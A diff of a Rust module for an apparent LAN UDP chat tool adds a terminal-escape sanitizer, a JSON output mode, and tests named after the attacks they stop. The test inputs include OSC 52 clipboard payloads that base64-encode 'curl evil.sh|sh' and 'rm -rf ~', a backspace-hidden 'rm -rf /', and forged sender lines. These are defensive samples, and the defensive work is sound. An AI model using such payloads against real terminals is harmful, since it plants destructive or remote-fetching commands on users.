@@ -1,36 +1,127 @@
-//! How one received datagram is shown: bytes in, one line of text out, no I/O.
+//! How one received datagram is shown: bytes in, text out, no I/O.
+//!
+//! Every datagram is untrusted: anyone on the LAN can send one. On a terminal
+//! its text is sanitized so that escape sequences cannot move the cursor,
+//! rewrite earlier lines, set the window title or write the clipboard (OSC 52).
+//! The sanitizer follows fd's `src/sanitize.rs`, and its tests are named after
+//! the attack each one stops.
 
 use std::io::Write;
 use std::net::SocketAddr;
+use std::sync::OnceLock;
+use std::time::SystemTime;
 
-/// Appends `datagram` to `out` as one line of text, after `<ADDR> ` when a
-/// sender is given (`--show-sender`, or a stranger's datagram).
+use jiff::Timestamp;
+use jiff::tz::TimeZone;
+
+/// What each received datagram becomes on the output.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Format {
+    /// One line of text per datagram, after the labels asked for (the default).
+    #[default]
+    Text,
+    /// One JSON object per line: `{"from":..,"time":..,"text":..,"bytes":..}`,
+    /// plus `"base64"` holding the exact bytes when they are not UTF-8.
+    Json,
+}
+
+/// The time label that starts a text line (`--timestamps`).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Timestamps {
+    /// Local wall-clock time of arrival, `10:15:03`.
+    Clock,
+    /// Local date and time with milliseconds and UTC offset (RFC 3339),
+    /// `2026-11-24T10:15:03.120+01:00`.
+    Rfc3339,
+}
+
+/// How the receiver shows each datagram. The default is the plain line mode
+/// that pipes see: the text alone, not sanitized, no labels, no colour.
 ///
-/// One trailing `\n` or `\r\n` is dropped first, because `nc -u` and `socat`
-/// send a line with its newline and the line should not be followed by a blank
-/// one. Bytes that are not UTF-8 become U+FFFD, as `String::from_utf8_lossy`
-/// does, but without allocating: this runs once per datagram.
-///
-/// ```
-/// let mut out = Vec::new();
-/// let from = "192.168.1.6:2323".parse().unwrap();
-/// udpchat::display::push_line(b"hi from nc\r\n", None, &mut out);
-/// udpchat::display::push_line(b"caf\xe9", Some(&from), &mut out);
-/// assert_eq!(out, "hi from nc\n<192.168.1.6:2323> caf\u{fffd}\n".as_bytes());
-/// ```
-pub fn push_line(datagram: &[u8], sender: Option<&SocketAddr>, out: &mut Vec<u8>) {
-    if let Some(sender) = sender {
-        // Writing to a Vec cannot fail.
-        let _ = write!(out, "<{sender}> ");
-    }
-    let text = strip_newline(datagram);
-    for chunk in text.utf8_chunks() {
-        out.extend_from_slice(chunk.valid().as_bytes());
-        if !chunk.invalid().is_empty() {
-            out.extend_from_slice(char::REPLACEMENT_CHARACTER.encode_utf8(&mut [0; 4]).as_bytes());
+/// The binary fills it from `--format`, `--sanitize`, `--show-sender`,
+/// `--timestamps` and `--color`, having decided what "auto" means for the
+/// output at hand; nothing in here looks at a terminal.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Style {
+    /// Text lines or JSON lines.
+    pub format: Format,
+    /// Show control characters, bidi overrides and invalid UTF-8 as visible
+    /// escapes (`\x1b`, `\u{202e}`, `\xff`) instead of passing them on.
+    pub sanitize: bool,
+    /// Start each text line with `<ADDR> `, the address it came from. A caller
+    /// that must always name the sender (a stranger's datagram) passes a copy
+    /// with this set: `Style { show_sender: true, ..style.clone() }`.
+    pub show_sender: bool,
+    /// Start each text line with the local time of arrival.
+    pub timestamps: Option<Timestamps>,
+    /// Colour the labels with ANSI escape sequences.
+    pub color: bool,
+}
+
+/// SGR sequences for the labels: faint time, cyan sender, then back to normal.
+const TIME_COLOR: &str = "\x1b[2m";
+const SENDER_COLOR: &str = "\x1b[36m";
+const RESET: &str = "\x1b[0m";
+
+impl Style {
+    /// Appends one datagram to `out` as one line (ending in `\n`), in this style.
+    ///
+    /// Text lines drop one trailing `\n` or `\r\n` first, because `nc -u` and
+    /// `socat` send a line with its newline; JSON keeps the bytes exactly.
+    /// Labels come in this order: time, then sender, then the text.
+    ///
+    /// ```
+    /// use std::time::SystemTime;
+    /// use udpchat::display::Style;
+    ///
+    /// let from = "192.168.1.6:2323".parse().unwrap();
+    /// let style = Style { sanitize: true, show_sender: true, ..Style::default() };
+    /// let mut out = Vec::new();
+    /// style.push(b"\x1b]52;c;cm0gLXJmIH4=\x07hi\r\n", &from, SystemTime::now(), &mut out);
+    /// assert_eq!(String::from_utf8(out).unwrap(), "<192.168.1.6:2323> \\x1b]52;c;cm0gLXJmIH4=\\x07hi\n");
+    /// ```
+    pub fn push(&self, datagram: &[u8], from: &SocketAddr, arrived: SystemTime, out: &mut Vec<u8>) {
+        if self.format == Format::Json {
+            push_json(datagram, from, arrived, out);
+            return;
         }
+        if let Some(kind) = self.timestamps {
+            self.push_label(TIME_COLOR, out, |out| {
+                push_time(kind, arrived, local_time_zone(), out)
+            });
+        }
+        if self.show_sender {
+            self.push_label(SENDER_COLOR, out, |out| {
+                // Writing to a Vec cannot fail.
+                let _ = write!(out, "<{from}>");
+            });
+        }
+        let text = strip_newline(datagram);
+        if self.sanitize {
+            push_sanitized(text, out);
+        } else {
+            push_lossy(text, out);
+        }
+        out.push(b'\n');
     }
-    out.push(b'\n');
+
+    /// Appends a label and a space; the label is sanitized like the text, so
+    /// that no address is ever shown raw.
+    fn push_label(&self, color: &str, out: &mut Vec<u8>, write_label: impl FnOnce(&mut Vec<u8>)) {
+        if self.color {
+            out.extend_from_slice(color.as_bytes());
+        }
+        let start = out.len();
+        write_label(out);
+        if self.sanitize {
+            let label = out.split_off(start);
+            push_sanitized(&label, out);
+        }
+        if self.color {
+            out.extend_from_slice(RESET.as_bytes());
+        }
+        out.push(b' ');
+    }
 }
 
 /// `datagram` without one trailing `\n` or `\r\n`.
@@ -43,15 +134,214 @@ pub fn strip_newline(datagram: &[u8]) -> &[u8] {
     }
 }
 
+/// `text` with every character that could act on a terminal shown as a
+/// visible escape, and invalid UTF-8 shown byte by byte.
+///
+/// Escaped: the C0 controls but tab (ESC, BEL, backspace, CR, LF ...), DEL,
+/// the C1 controls U+0080 to U+009F (U+009B is a one-character CSI), and the
+/// Unicode bidi controls that reorder what is shown ("Trojan Source"). ASCII
+/// ones and invalid bytes become `\xNN`, the others `\u{NNNN}`. Everything
+/// else, including a backslash, passes unchanged, so a peer can make text
+/// that *looks* like an escape, but never one that *acts*.
+///
+/// ```
+/// assert_eq!(udpchat::display::sanitize(b"\x1b[2Jcaf\xc3\xa9\r"), r"\x1b[2Jcafé\x0d");
+/// assert_eq!(udpchat::display::sanitize("\u{202e}txt.exe".as_bytes()), r"\u{202e}txt.exe");
+/// ```
+pub fn sanitize(text: &[u8]) -> String {
+    let mut out = Vec::with_capacity(text.len());
+    push_sanitized(text, &mut out);
+    String::from_utf8(out).expect("sanitized text is UTF-8")
+}
+
+/// True for a character that must not reach a terminal as it is.
+pub fn is_unsafe_char(c: char) -> bool {
+    (c.is_control() && c != '\t') || is_bidi_control(c)
+}
+
+/// The Unicode characters that change the direction of the text around them:
+/// ALM, LRM, RLM, the embeddings and overrides LRE..RLO, the isolates LRI..PDI.
+/// See: https://trojansource.codes and Unicode UAX #9.
+fn is_bidi_control(c: char) -> bool {
+    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+fn push_sanitized(text: &[u8], out: &mut Vec<u8>) {
+    for chunk in text.utf8_chunks() {
+        let valid = chunk.valid();
+        let mut clean_from = 0;
+        for (i, c) in valid.char_indices() {
+            if is_unsafe_char(c) {
+                out.extend_from_slice(&valid.as_bytes()[clean_from..i]);
+                push_escape(c, out);
+                clean_from = i + c.len_utf8();
+            }
+        }
+        out.extend_from_slice(&valid.as_bytes()[clean_from..]);
+        for byte in chunk.invalid() {
+            let _ = write!(out, "\\x{byte:02x}");
+        }
+    }
+}
+
+fn push_escape(c: char, out: &mut Vec<u8>) {
+    if c.is_ascii() {
+        let _ = write!(out, "\\x{:02x}", c as u32);
+    } else {
+        let _ = write!(out, "\\u{{{:x}}}", c as u32);
+    }
+}
+
+/// Bytes that are not UTF-8 become U+FFFD, as `String::from_utf8_lossy`
+/// does, but without allocating: this runs once per datagram.
+fn push_lossy(text: &[u8], out: &mut Vec<u8>) {
+    for chunk in text.utf8_chunks() {
+        out.extend_from_slice(chunk.valid().as_bytes());
+        if !chunk.invalid().is_empty() {
+            out.extend_from_slice(char::REPLACEMENT_CHARACTER.encode_utf8(&mut [0; 4]).as_bytes());
+        }
+    }
+}
+
+/// The local time zone, read once (from `TZ` or `/etc/localtime`); UTC when
+/// it cannot be found. A chat that runs across a change of the system's zone
+/// keeps the old one, as most long-running programs do.
+fn local_time_zone() -> &'static TimeZone {
+    static LOCAL: OnceLock<TimeZone> = OnceLock::new();
+    LOCAL.get_or_init(TimeZone::system)
+}
+
+fn timestamp(arrived: SystemTime) -> Timestamp {
+    Timestamp::try_from(arrived).unwrap_or(Timestamp::UNIX_EPOCH)
+}
+
+fn push_time(kind: Timestamps, arrived: SystemTime, zone: &TimeZone, out: &mut Vec<u8>) {
+    let at = timestamp(arrived);
+    let _ = match kind {
+        Timestamps::Clock => {
+            let local = zone.to_datetime(at);
+            write!(
+                out,
+                "{:02}:{:02}:{:02}",
+                local.hour(),
+                local.minute(),
+                local.second()
+            )
+        }
+        Timestamps::Rfc3339 => write!(out, "{:.3}", at.display_with_offset(zone.to_offset(at))),
+    };
+}
+
+/// One JSON object and a newline. The time is UTC, so that logs from hosts
+/// in different zones sort together; `text` is the whole datagram (its
+/// newline too), with U+FFFD for invalid UTF-8, and then `base64` holds the
+/// exact bytes. Hand-written rather than serde_json: four fields do not need
+/// a serializer, and the escaping below is tested against serde_json.
+fn push_json(datagram: &[u8], from: &SocketAddr, arrived: SystemTime, out: &mut Vec<u8>) {
+    let _ = write!(
+        out,
+        "{{\"from\":\"{from}\",\"time\":\"{:.3}\",\"text\":\"",
+        timestamp(arrived)
+    );
+    for chunk in datagram.utf8_chunks() {
+        push_json_escaped(chunk.valid(), out);
+        if !chunk.invalid().is_empty() {
+            out.extend_from_slice(char::REPLACEMENT_CHARACTER.encode_utf8(&mut [0; 4]).as_bytes());
+        }
+    }
+    let _ = write!(out, "\",\"bytes\":{}", datagram.len());
+    if std::str::from_utf8(datagram).is_err() {
+        out.extend_from_slice(b",\"base64\":\"");
+        push_base64(datagram, out);
+        out.push(b'"');
+    }
+    out.extend_from_slice(b"}\n");
+}
+
+/// Escapes a JSON string's content (RFC 8259). Beyond what JSON requires, DEL,
+/// the C1 controls, bidi controls and U+2028/U+2029 are written as `\uXXXX`
+/// too: the same characters, yet safe to show on a terminal and to paste into
+/// JavaScript.
+fn push_json_escaped(text: &str, out: &mut Vec<u8>) {
+    let mut clean_from = 0;
+    for (i, c) in text.char_indices() {
+        let escape = match c {
+            '"' => Some("\\\""),
+            '\\' => Some("\\\\"),
+            '\n' => Some("\\n"),
+            '\r' => Some("\\r"),
+            '\t' => Some("\\t"),
+            '\u{8}' => Some("\\b"),
+            '\u{c}' => Some("\\f"),
+            _ if is_unsafe_char(c) || matches!(c, '\u{2028}' | '\u{2029}') => None,
+            _ => continue,
+        };
+        out.extend_from_slice(&text.as_bytes()[clean_from..i]);
+        match escape {
+            Some(short) => out.extend_from_slice(short.as_bytes()),
+            // Every character escaped this way is in the Basic Multilingual Plane.
+            None => {
+                let _ = write!(out, "\\u{:04x}", c as u32);
+            }
+        }
+        clean_from = i + c.len_utf8();
+    }
+    out.extend_from_slice(&text.as_bytes()[clean_from..]);
+}
+
+/// Standard base64 with padding (RFC 4648, section 4), as `base64 -d` and
+/// jq's `@base64d` read it.
+fn push_base64(bytes: &[u8], out: &mut Vec<u8>) {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    for group in bytes.chunks(3) {
+        let n = group
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, &b)| n | (u32::from(b) << (16 - 8 * i)));
+        for i in 0..4 {
+            if i <= group.len() {
+                out.push(ALPHABET[((n >> (18 - 6 * i)) & 0x3f) as usize]);
+            } else {
+                out.push(b'=');
+            }
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::prelude::*;
 
-    fn shown(datagram: &[u8]) -> String {
+    fn from() -> SocketAddr {
+        "192.168.1.6:2323".parse().unwrap()
+    }
+
+    /// 2026-11-24T10:15:03.120Z
+    fn arrived() -> SystemTime {
+        SystemTime::UNIX_EPOCH + std::time::Duration::from_millis(1_795_515_303_120)
+    }
+
+    fn shown_in(style: &Style, datagram: &[u8]) -> String {
         let mut out = Vec::new();
-        push_line(datagram, None, &mut out);
+        style.push(datagram, &from(), arrived(), &mut out);
         String::from_utf8(out).expect("output is always UTF-8")
     }
+
+    fn shown(datagram: &[u8]) -> String {
+        shown_in(&Style::default(), datagram)
+    }
+
+    fn sanitized(datagram: &[u8]) -> String {
+        let style = Style {
+            sanitize: true,
+            ..Style::default()
+        };
+        let line = shown_in(&style, datagram);
+        line.strip_suffix('\n').expect("one line").to_owned()
+    }
+
+    // Plain line mode: what pipes see, unchanged from the core chat.
 
     #[test]
     fn prints_an_empty_datagram_as_an_empty_line() {
@@ -67,8 +357,9 @@ mod tests {
     }
 
     #[test]
-    fn keeps_a_lone_carriage_return() {
+    fn passes_bytes_through_when_not_a_terminal() {
         assert_eq!(shown(b"a\r"), "a\r\n");
+        assert_eq!(shown(b"\x1b[31mred\x07"), "\x1b[31mred\x07\n");
     }
 
     #[test]
@@ -85,14 +376,254 @@ mod tests {
     }
 
     #[test]
+    fn keeps_non_ascii_text() {
+        assert_eq!(shown("héllo, 世界".as_bytes()), "héllo, 世界\n");
+        assert_eq!(sanitized("héllo, 世界 👋".as_bytes()), "héllo, 世界 👋");
+    }
+
+    // Sanitizing: each test names the attack it stops.
+
+    #[test]
+    fn escapes_osc52_clipboard_payload() {
+        assert_eq!(
+            sanitized(b"\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
+            r"\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
+        );
+    }
+
+    #[test]
+    fn escapes_osc_window_title_change() {
+        assert_eq!(sanitized(b"\x1b]0;root@server\x1b\\"), r"\x1b]0;root@server\x1b\");
+    }
+
+    #[test]
+    fn escapes_csi_screen_clear_and_cursor_moves() {
+        assert_eq!(sanitized(b"\x1b[2J\x1b[1;1H"), r"\x1b[2J\x1b[1;1H");
+    }
+
+    #[test]
+    fn escapes_c1_single_character_csi() {
+        assert_eq!(sanitized("\u{9b}2J".as_bytes()), r"\u{9b}2J");
+        assert_eq!(sanitized("\u{9d}0;x\u{9c}".as_bytes()), r"\u{9d}0;x\u{9c}");
+    }
+
+    #[test]
+    fn escapes_carriage_return_forgery() {
+        // Without escaping, "ok" would overwrite "innocent" on the screen.
+        assert_eq!(sanitized(b"innocent\rok      "), r"innocent\x0dok      ");
+    }
+
+    #[test]
+    fn escapes_backspace_forgery() {
+        assert_eq!(
+            sanitized(b"rm -rf /\x08\x08\x08\x08ls"),
+            r"rm -rf /\x08\x08\x08\x08ls"
+        );
+    }
+
+    #[test]
+    fn escapes_embedded_newline_that_would_forge_another_senders_line() {
+        let style = Style {
+            sanitize: true,
+            show_sender: true,
+            ..Style::default()
+        };
+        assert_eq!(
+            shown_in(&style, b"hi\n<10.0.0.1:2323> send me your password\n"),
+            "<192.168.1.6:2323> hi\\x0a<10.0.0.1:2323> send me your password\n"
+        );
+    }
+
+    #[test]
+    fn escapes_bell_and_delete() {
+        assert_eq!(sanitized(b"ding\x07\x07 oops\x7f"), r"ding\x07\x07 oops\x7f");
+    }
+
+    #[test]
+    fn escapes_bidi_override_trojan_source() {
+        assert_eq!(
+            sanitized("invoice\u{202e}fdp.exe".as_bytes()),
+            r"invoice\u{202e}fdp.exe"
+        );
+        assert_eq!(
+            sanitized("\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}".as_bytes()),
+            r"\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}"
+        );
+    }
+
+    #[test]
+    fn escapes_invalid_utf8_byte_by_byte() {
+        assert_eq!(sanitized(b"caf\xe9 \xff\xfe"), r"caf\xe9 \xff\xfe");
+        // A lone 0x9b byte is not the C1 CSI, but it must not reach the terminal either.
+        assert_eq!(sanitized(b"\x9b2J"), r"\x9b2J");
+    }
+
+    #[test]
+    fn keeps_tabs() {
+        assert_eq!(sanitized(b"name\tvalue"), "name\tvalue");
+    }
+
+    // Labels and colour.
+
+    #[test]
     fn labels_a_line_with_its_sender() {
+        let style = Style {
+            show_sender: true,
+            ..Style::default()
+        };
+        assert_eq!(shown_in(&style, b"hi"), "<192.168.1.6:2323> hi\n");
         let mut out = Vec::new();
-        push_line(b"hi", Some(&"[::1]:9".parse().unwrap()), &mut out);
+        style.push(b"hi", &"[::1]:9".parse().unwrap(), arrived(), &mut out);
         assert_eq!(out, b"<[::1]:9> hi\n");
     }
 
     #[test]
-    fn keeps_non_ascii_text() {
-        assert_eq!(shown("héllo, 世界".as_bytes()), "héllo, 世界\n");
+    fn puts_the_time_label_before_the_sender_label() {
+        let mut out = Vec::new();
+        push_time(Timestamps::Clock, arrived(), &TimeZone::UTC, &mut out);
+        assert_eq!(out, b"10:15:03");
+        let style = Style {
+            show_sender: true,
+            timestamps: Some(Timestamps::Clock),
+            ..Style::default()
+        };
+        let line = shown_in(&style, b"hi");
+        let (time, rest) = line.split_once(' ').unwrap();
+        assert_eq!(time.len(), "10:15:03".len(), "{line}");
+        assert_eq!(rest, "<192.168.1.6:2323> hi\n");
+    }
+
+    #[test]
+    fn shows_the_time_of_arrival_in_the_local_zone() {
+        let paris_winter = TimeZone::fixed(jiff::tz::offset(1));
+        let mut out = Vec::new();
+        push_time(Timestamps::Clock, arrived(), &paris_winter, &mut out);
+        assert_eq!(out, b"11:15:03");
+        out.clear();
+        push_time(Timestamps::Rfc3339, arrived(), &paris_winter, &mut out);
+        assert_eq!(out, b"2026-11-24T11:15:03.120+01:00");
+    }
+
+    #[test]
+    fn colours_the_labels_only() {
+        let style = Style {
+            show_sender: true,
+            timestamps: Some(Timestamps::Clock),
+            color: true,
+            ..Style::default()
+        };
+        let line = shown_in(&style, b"plain text");
+        assert!(line.starts_with(TIME_COLOR), "{line:?}");
+        assert!(
+            line.ends_with(&format!("{SENDER_COLOR}<192.168.1.6:2323>{RESET} plain text\n")),
+            "{line:?}"
+        );
+        let uncoloured = Style {
+            color: false,
+            ..style
+        };
+        assert!(!shown_in(&uncoloured, b"plain text").contains('\x1b'));
+    }
+
+    // JSON lines.
+
+    fn json(datagram: &[u8]) -> serde_json::Value {
+        let style = Style {
+            format: Format::Json,
+            ..Style::default()
+        };
+        let line = shown_in(&style, datagram);
+        assert_eq!(line.matches('\n').count(), 1, "one line: {line:?}");
+        serde_json::from_str(&line).unwrap_or_else(|err| panic!("{err}: {line:?}"))
+    }
+
+    #[test]
+    fn writes_one_json_object_per_datagram() {
+        assert_eq!(
+            json(b"hello"),
+            serde_json::json!({
+                "from": "192.168.1.6:2323",
+                "time": "2026-11-24T10:15:03.120Z",
+                "text": "hello",
+                "bytes": 5,
+            })
+        );
+    }
+
+    #[test]
+    fn keeps_non_utf8_datagrams_lossless_in_base64() {
+        let value = json(b"caf\xe9\n");
+        assert_eq!(value["text"], "caf\u{fffd}\n");
+        assert_eq!(value["bytes"], 5);
+        assert_eq!(value["base64"], "Y2Fm6Qo=");
+    }
+
+    #[test]
+    fn escapes_terminal_controls_inside_json_strings() {
+        let mut out = Vec::new();
+        push_json_escaped("a\"b\\c\u{1b}[2J\u{7f}\u{9b}\u{202e}\u{2028}\n", &mut out);
+        assert_eq!(out, br#"a\"b\\c\u001b[2J\u007f\u009b\u202e\u2028\n"#);
+    }
+
+    #[test]
+    fn encodes_base64_as_rfc_4648_does() {
+        for (input, expected) in [
+            ("", ""),
+            ("f", "Zg=="),
+            ("fo", "Zm8="),
+            ("foo", "Zm9v"),
+            ("foob", "Zm9vYg=="),
+            ("fooba", "Zm9vYmE="),
+            ("foobar", "Zm9vYmFy"),
+        ] {
+            let mut out = Vec::new();
+            push_base64(input.as_bytes(), &mut out);
+            assert_eq!(out, expected.as_bytes(), "{input}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn sanitized_output_has_no_control_character_but_tab(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
+            let out = sanitize(&bytes);
+            prop_assert!(!out.chars().any(is_unsafe_char), "{:?}", out);
+        }
+
+        #[test]
+        fn sanitizing_passes_printable_text_through_unchanged(text in "\\PC*") {
+            // \PC: any character that is not a control (tab is one, and passes too).
+            let text: String = text.chars().filter(|&c| !is_bidi_control(c)).collect();
+            prop_assert_eq!(sanitize(text.as_bytes()), text);
+        }
+
+        #[test]
+        fn sanitized_lines_stay_one_line(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
+            let style = Style { sanitize: true, show_sender: true, timestamps: Some(Timestamps::Rfc3339), color: true, ..Style::default() };
+            let line = shown_in(&style, &bytes);
+            prop_assert_eq!(line.matches('\n').count(), 1);
+            prop_assert!(!line.contains('\r'));
+        }
+
+        #[test]
+        fn json_lines_parse_and_give_back_the_exact_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
+            use base64::Engine as _;
+            let value = json(&bytes);
+            prop_assert_eq!(value["bytes"].as_u64(), Some(bytes.len() as u64));
+            let text = value["text"].as_str().unwrap();
+            let exact = match value.get("base64") {
+                Some(b64) => base64::engine::general_purpose::STANDARD.decode(b64.as_str().unwrap()).unwrap(),
+                None => text.as_bytes().to_vec(),
+            };
+            prop_assert_eq!(&exact, &bytes);
+            prop_assert_eq!(text, String::from_utf8_lossy(&bytes));
+        }
+
+        #[test]
+        fn json_lines_never_carry_a_raw_control_character(text in any::<String>()) {
+            let style = Style { format: Format::Json, ..Style::default() };
+            let line = shown_in(&style, text.as_bytes());
+            let body = line.strip_suffix('\n').unwrap();
+            prop_assert!(!body.chars().any(|c| is_unsafe_char(c) || c == '\t'), "{:?}", body);
+        }
     }
 }
